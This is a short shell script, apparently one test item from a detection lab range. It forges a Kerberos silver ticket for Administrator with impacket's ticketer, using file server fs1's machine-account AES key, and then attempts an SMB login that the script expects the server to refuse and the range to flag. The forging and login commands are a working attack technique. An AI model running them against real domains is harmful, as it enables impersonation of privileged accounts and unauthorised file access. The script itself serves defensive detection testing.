# SPDX-License-Identifier: Apache-2.0
# what: a service ticket made with fs1's own key; this Samba refuses it
# technique: T1558.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: alert krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
impacket ticketer -aesKey "$(aeskey 'FS1$')" -domain-sid "$(domain_sid)" -domain $DOMAIN_DNS \
	-spn cifs/fs1.$DOMAIN_DNS Administrator
printf 'use data\nls\nexit\n' >"$HOME/do"
export KRB5CCNAME="$HOME/Administrator.ccache"
says 'drw|LOGON_FAILURE' impacket smbclient -k -no-pass -dc-ip $dc1 -file "$HOME/do" "$REALM/Administrator@fs1.$DOMAIN_DNS"
